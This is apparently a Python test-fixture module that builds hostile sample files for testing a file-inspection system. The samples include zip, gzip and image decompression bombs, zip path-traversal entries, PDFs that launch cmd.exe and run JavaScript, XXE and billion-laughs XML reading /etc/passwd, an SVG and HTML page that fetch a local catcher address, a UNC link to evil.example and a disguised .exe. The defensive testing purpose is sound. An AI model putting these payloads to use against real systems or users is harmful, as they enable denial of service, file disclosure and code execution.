"""Bombs and exploits, made here byte by byte: small files that ask for much, or ask somebody to do something.

None of them does harm by lying around. `CATCHER` stands where a file names an address: whoever fetches anything is seen there.
"""

import bz2
import io
import struct
import zipfile
import zlib
from collections.abc import Callable

import pikepdf

from tests.inspection import samples

MIB = 1024 * 1024
GIB = 1024 * MIB
CATCHER = b"http://127.0.0.1:@PORT@/"


def zeros_deflated(count: int) -> bytes:
    """A raw deflate stream that becomes `count` MiB of zero bytes: one block, full-flushed, over and over."""
    packer = zlib.compressobj(9, zlib.DEFLATED, -15)
    block = packer.compress(bytes(MIB)) + packer.flush(zlib.Z_FULL_FLUSH)
    return block * count + zlib.compressobj(9, zlib.DEFLATED, -15).flush()


def zlibbed(count: int) -> bytes:
    """The same in a zlib stream, with a true checksum: Adler-32 of zeros is their number and one."""
    return b"\x78\xda" + zeros_deflated(count) + struct.pack(">HH", count * MIB % 65521, 1)


def zip_of(entries: dict[str, bytes], kind: int = zipfile.ZIP_DEFLATED) -> bytes:
    made = io.BytesIO()
    with zipfile.ZipFile(made, "w", kind) as archive:
        for name, content in entries.items():
            archive.writestr(name, content)
    return made.getvalue()


def zip_claiming(body: bytes, size: int) -> bytes:
    """A ZIP of one packed member of which only the size is true."""
    name = b"zeros.bin"
    head = struct.pack("<HHHHHIIIHH", 20, 0, 8, 0, 33, 0, len(body), size, len(name), 0)
    local = b"PK\x03\x04" + head + name + body
    central = b"PK\x01\x02" + struct.pack("<H", 20) + head + struct.pack("<HHHII", 0, 0, 0, 0, 0) + name
    return local + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, 1, 1, len(central), len(local), 0)


def zip_nested(deep: int) -> bytes:
    inner = zip_of({"last.txt": b"the end"})
    for level in range(deep):
        inner = zip_of({f"{level}.zip": inner, f"again-{level}.zip": inner})
    return inner


def zip_overlapping(times: int) -> bytes:
    """Many members that share the bytes of one, as in the bombs that need no nesting."""
    packed = zip_claiming(zeros_deflated(16), 16 * MIB)
    start, end = packed.index(b"PK\x01\x02"), packed.index(b"PK\x05\x06")
    central = packed[start:end] * times
    return (
        packed[:start] + central + b"PK\x05\x06" + struct.pack("<HHHHIIH", 0, 0, times, times, len(central), start, 0)
    )


def zip_that_holds_itself() -> bytes:
    """Its one member begins with the archive's own first bytes and has its length: whoever descends finds it again."""
    packed = zip_of({"self.zip": b"PK\x03\x04" + bytes(60)}, zipfile.ZIP_STORED)
    return packed.replace(b"PK\x03\x04" + bytes(60), packed[:64], 1)


def gzip_bomb(count: int) -> bytes:
    return b"\x1f\x8b\x08\x00\x00\x00\x00\x00\x02\xff" + zeros_deflated(count) + bytes(8)


def bzip2_bomb(count: int) -> bytes:
    return bz2.compress(bytes(MIB)) * count


# ── pictures ────────────────────────────────────────────────────────────────────────────────────────────


def jpeg_claiming(width: int, height: int) -> bytes:
    small = samples.picture("JPEG", (16, 16))
    frame = small.index(b"\xff\xc0")
    return small[: frame + 5] + struct.pack(">HH", height, width) + small[frame + 9 :]


def tiff_claiming(width: int, height: int) -> bytes:
    tags = ((256, 4, width), (257, 4, height), (258, 3, 8), (259, 3, 1), (262, 3, 1), (273, 4, 8), (278, 4, height))
    tags += ((279, 4, 64),)
    body = b"".join(struct.pack("<HHII", tag, kind, 1, given) for tag, kind, given in tags)
    return b"II*\0" + struct.pack("<IH", 8, len(tags)) + body + bytes(4) + bytes(64)


def tiff_whose_directory_is_its_next() -> bytes:
    one = struct.pack("<HHII", 256, 4, 1, 10)
    return b"II*\0" + struct.pack("<IH", 8, 1) + one + struct.pack("<I", 8)


def webp_claiming(width: int, height: int) -> bytes:
    bits = (width - 1) | (height - 1) << 14
    body = b"\x2f" + struct.pack("<I", bits) + bytes(20)
    return b"RIFF" + struct.pack("<I", len(body) + 13) + b"WEBPVP8L" + struct.pack("<I", len(body)) + body + b"\0"


def gif_claiming(width: int, height: int) -> bytes:
    image = b"," + struct.pack("<HHHHB", 0, 0, width, height, 0) + b"\x02\x02\x44\x01\x00;"
    return b"GIF89a" + struct.pack("<HHBBB", width, height, 0x80, 0, 0) + bytes(6) + image


def heic_claiming(width: int, height: int) -> bytes:
    small = samples.picture("HEIF", (64, 64))
    at = small.index(b"ispe") + 8
    return small[:at] + struct.pack(">II", width, height) + small[at + 8 :]


def png_with_a_bomb_for_a_text() -> bytes:
    small = samples.picture("PNG")
    body = b"Comment\0\0" + zlibbed(512)
    text = struct.pack(">I", len(body)) + b"zTXt" + body + struct.pack(">I", zlib.crc32(b"zTXt" + body))
    return small[:33] + text + small[33:]


# ── documents ───────────────────────────────────────────────────────────────────────────────────────────


def raw_pdf(*objects: bytes, trailer: bytes = b"") -> bytes:
    """A PDF of these objects, numbered from 1; the first is the catalogue."""
    made, places = bytearray(b"%PDF-1.7\n"), []
    for number, content in enumerate(objects, 1):
        places.append(len(made))
        made += b"%d 0 obj\n%b\nendobj\n" % (number, content)
    table = len(made)
    made += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    made += b"".join(b"%010d 00000 n \n" % place for place in places)
    return bytes(made) + b"trailer\n<</Size %d/Root 1 0 R%b>>\nstartxref\n%d\n%%%%EOF\n" % (
        len(objects) + 1,
        trailer.replace(b"@HERE@", b"%d" % table),
        table,
    )


_PAGES = b"<</Type/Pages/Count 1/Kids[3 0 R]>>"
_PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 200 200]%b>>"


def stream(body: bytes, extra: bytes = b"") -> bytes:
    return b"<</Length %d%b>>\nstream\n%b\nendstream" % (len(body), extra, body)


def pdf_that_acts() -> bytes:
    """On opening it starts a program, runs a script, posts a form, opens an address and another file; it holds a program."""
    actions = (
        b"<</S/Launch/F(cmd.exe)/Next<</S/JavaScript/JS(app.launchURL\\('" + CATCHER + b"'\\))"
        b"/Next<</S/SubmitForm/F<</FS/URL/F(" + CATCHER + b")>>/Next<</S/URI/URI(" + CATCHER + b")"
        b"/Next<</S/GoToR/F(\\\\\\\\evil.example\\\\share\\\\a.pdf)/D[0/Fit]>>>>>>>>>>"
    )
    attached = b"/Names<</EmbeddedFiles<</Names[(run.exe)<</Type/Filespec/F(run.exe)/UF(run.exe)/EF<</F 4 0 R>>>>]>>>>"
    catalogue = b"<</Type/Catalog/Pages 2 0 R/OpenAction" + actions + attached + b">>"
    return raw_pdf(catalogue, _PAGES, _PAGE % b"", stream(b"MZ" + bytes(60)))


def pdf_whose_tables_go_round() -> bytes:
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", _PAGES, _PAGE % b"", trailer=b"/Prev @HERE@")


def pdf_whose_pages_go_round() -> bytes:
    return raw_pdf(
        b"<</Type/Catalog/Pages 2 0 R>>", b"<</Type/Pages/Count 999999999/Kids[2 0 R 3 0 R 2 0 R]>>", _PAGE % b""
    )


def pdf_of_a_huge_stream() -> bytes:
    packed = zlib.compress(zlibbed(2048), 9)
    content = stream(packed, b"/Filter[/FlateDecode/FlateDecode]")
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", _PAGES, _PAGE % b"/Contents 4 0 R", content)


def pdf_of_a_huge_object_stream() -> bytes:
    body = zlibbed(1024)
    packed = stream(body, b"/Type/ObjStm/N 100000000/First 800000000/Filter/FlateDecode")
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", _PAGES, _PAGE % b"/Contents 5 0 R", packed, b"[" * 50_000)


def pdf_of_a_huge_picture() -> bytes:
    picture = stream(
        zlibbed(4),
        b"/Type/XObject/Subtype/Image/Width 60000/Height 60000/ColorSpace/DeviceRGB/BitsPerComponent 8/Filter/FlateDecode",
    )
    page = _PAGE % b"/Contents 4 0 R/Resources<</XObject<</I 5 0 R>>>>"
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", _PAGES, page, stream(b"200 0 0 200 0 0 cm /I Do"), picture)


def pdf_of_forms_within_forms() -> bytes:
    """Each form draws the next one ten times: ten milliard drawings."""
    forms = [
        stream(
            b"/F Do " * 10,
            b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]/Resources<</XObject<</F %d 0 R>>>>" % (number + 1),
        )
        for number in range(5, 15)
    ]
    page = _PAGE % b"/Contents 4 0 R/Resources<</XObject<</F 5 0 R>>>>"
    last = stream(b"0 0 9 9 re f", b"/Type/XObject/Subtype/Form/BBox[0 0 9 9]")
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", _PAGES, page, stream(b"/F Do"), *forms, last)


def pdf_with_a_broken_font() -> bytes:
    font = b"<</Type/Font/Subtype/TrueType/BaseFont/Evil/FirstChar 0/LastChar 0/Widths[9]/FontDescriptor 6 0 R>>"
    descriptor = b"<</Type/FontDescriptor/FontName/Evil/Flags 4/FontBBox[0 0 9 9]/ItalicAngle 0/Ascent 9/Descent 0/CapHeight 9/StemV 9/FontFile2 7 0 R>>"
    page = _PAGE % b"/Contents 4 0 R/Resources<</Font<</F 5 0 R>>>>"
    words = stream(b"BT /F 12 Tf 20 20 Td (words) Tj ET")
    return raw_pdf(b"<</Type/Catalog/Pages 2 0 R>>", _PAGES, page, words, font, descriptor, stream(font_of_lies()))


def font_of_lies() -> bytes:
    """A TrueType font whose tables lie anywhere and are as long as they like."""
    tables = b"".join(
        name + struct.pack(">III", 0, 0xFFFFFF00, 0xFFFFFFFF)
        for name in (b"cmap", b"fpgm", b"glyf", b"head", b"hhea", b"hmtx", b"loca", b"maxp", b"prep")
    )
    return b"\0\1\0\0" + struct.pack(">HHHH", 9, 128, 3, 16) + tables + bytes(64)


# ── words and offices ───────────────────────────────────────────────────────────────────────────────────

LAUGHS = (
    b'<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a "ha">'
    + b"".join(b'<!ENTITY %c "%b">' % (98 + level, b"&%c;" % (97 + level) * 10) for level in range(12))
    + b"]>"
)
OUTSIDE = (
    b'<?xml version="1.0"?><!DOCTYPE z [<!ENTITY a SYSTEM "' + CATCHER + b'"><!ENTITY b SYSTEM "file:///etc/passwd">]>'
)


def drawing(head: bytes, inside: bytes) -> bytes:
    return (
        head
        + b'<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink">'
        + inside
        + b"</svg>"
    )


def web_page() -> bytes:
    return (
        b"<!DOCTYPE html><html><head><meta http-equiv=refresh content='0;url="
        + CATCHER
        + b"'><script src='"
        + CATCHER
        + b"'></script></head>"
        b"<body onload=alert(1)><img src='" + CATCHER + b"'><iframe src='file:///etc/passwd'></iframe></body></html>"
    )


def office_file_with_a_template_elsewhere() -> bytes:
    relation = (
        b'<?xml version="1.0"?><Relationships xmlns="http://schemas.openxmlformats.org/package/2006/relationships"><Relationship Id="r1" '
        b'Type="http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate" TargetMode="External" Target="'
        + CATCHER + b'"/></Relationships>'
    )  # fmt: skip
    return zip_of(
        {
            "[Content_Types].xml": b"<Types/>",
            "word/document.xml": OUTSIDE + b"<d>&a;&b;</d>",
            "word/_rels/settings.xml.rels": relation,
            "word/vbaProject.bin": b"\xd0\xcf\x11\xe0" + bytes(64),
        }
    )


def workbook_of_laughs() -> bytes:
    return zip_of({"[Content_Types].xml": b"<Types/>", "xl/workbook.xml": LAUGHS + b"<w>&m;</w>"})


def film_of_absurd_boxes() -> bytes:
    def box(kind: bytes, body: bytes, size: int = 0) -> bytes:
        return struct.pack(">I", size or len(body) + 8) + kind + body

    table = box(b"stsd", bytes(4) + struct.pack(">I", 0xFFFFFFFF) + box(b"avc1", bytes(8), 0xFFFFFFFF))
    tracks = box(b"mdia", box(b"minf", box(b"stbl", table))) * 500
    return box(b"ftyp", b"isom" + bytes(4)) + struct.pack(">I", 1) + b"moov" + struct.pack(">Q", 2**63) + tracks


BOMBS: dict[str, Callable[[], bytes]] = {
    "zip of two gigabytes.zip": lambda: zip_claiming(zeros_deflated(2048), 2 * GIB),
    "zip within zips.zip": lambda: zip_nested(9),
    "zip whose members overlap.zip": lambda: zip_overlapping(10_000),
    "zip that holds itself.zip": zip_that_holds_itself,
    "zip of links out.zip": lambda: zip_of({"../../../etc/passwd": b"x", "C:\\run.exe": b"x", "a\\..\\b": b"x"}),
    "gzip of two gigabytes.gz": lambda: gzip_bomb(2048),
    "bzip2 of a gigabyte.bz2": lambda: bzip2_bomb(1024),
    "png of four milliard.png": lambda: samples.png_claiming(65_000, 65_000),
    "png that is one gigabyte.png": lambda: samples.png_claiming(30_000, 11_000, zlibbed(944)),
    "png with a bomb for a text.png": png_with_a_bomb_for_a_text,
    "jpeg of four milliard.jpg": lambda: jpeg_claiming(65_500, 65_500),
    "tiff of four milliard.tif": lambda: tiff_claiming(65_000, 65_000),
    "tiff that goes round.tif": tiff_whose_directory_is_its_next,
    "gif of four milliard.gif": lambda: gif_claiming(65_000, 65_000),
    "webp of a quarter milliard.webp": lambda: webp_claiming(16_384, 16_384),
    "heic of four milliard.heic": lambda: heic_claiming(65_000, 65_000),
    "pdf that acts.pdf": pdf_that_acts,
    "pdf whose tables go round.pdf": pdf_whose_tables_go_round,
    "pdf whose pages go round.pdf": pdf_whose_pages_go_round,
    "pdf of a huge stream.pdf": pdf_of_a_huge_stream,
    "pdf of a huge object stream.pdf": pdf_of_a_huge_object_stream,
    "pdf of a huge picture.pdf": pdf_of_a_huge_picture,
    "pdf of forms within forms.pdf": pdf_of_forms_within_forms,
    "pdf with a broken font.pdf": pdf_with_a_broken_font,
    "drawing with a script.svg": lambda: drawing(b"", b"<script>fetch('" + CATCHER + b"')</script>"),
    "drawing of laughs.svg": lambda: drawing(LAUGHS, b"<text>&m;</text>"),
    "drawing that reads files.svg": lambda: drawing(
        OUTSIDE, b"<image xlink:href='" + CATCHER + b"'/><text>&a;&b;</text>"
    ),
    "page that fetches.html": web_page,
    "letter with a template elsewhere.docx": office_file_with_a_template_elsewhere,
    "workbook of laughs.xlsx": workbook_of_laughs,
    "font of lies.ttf": font_of_lies,
    "film of absurd boxes.mp4": film_of_absurd_boxes,
    "photo.jpg.exe": lambda: b"MZ" + bytes(58) + struct.pack("<I", 64) + b"PE\0\0" + bytes(200),
}
"""By the name under which each is sent."""


def locked(content: bytes) -> bytes:
    """A document that needs a password."""
    made = io.BytesIO()
    with pikepdf.open(io.BytesIO(content)) as document:
        document.save(made, encryption=pikepdf.Encryption(user="u", owner="o"))
    return made.getvalue()
